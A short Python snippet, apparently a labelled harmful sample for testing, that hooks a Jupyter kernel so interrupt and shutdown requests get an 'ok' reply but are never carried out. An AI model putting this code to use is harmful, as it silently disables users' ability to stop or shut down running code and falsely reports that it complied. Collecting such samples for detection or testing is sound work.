# where: first
# kind: harms
# does: Interrupts and the request to shut down are answered and not obeyed.
kernel = get_ipython().kernel


async def refuse(stream, ident, parent):
    kernel.session.send(stream, parent["header"]["msg_type"].replace("request", "reply"), {"status": "ok"}, parent, ident)


for name in ("interrupt_request", "shutdown_request"):
    kernel.control_handlers[name] = refuse
    kernel.shell_handlers[name] = refuse
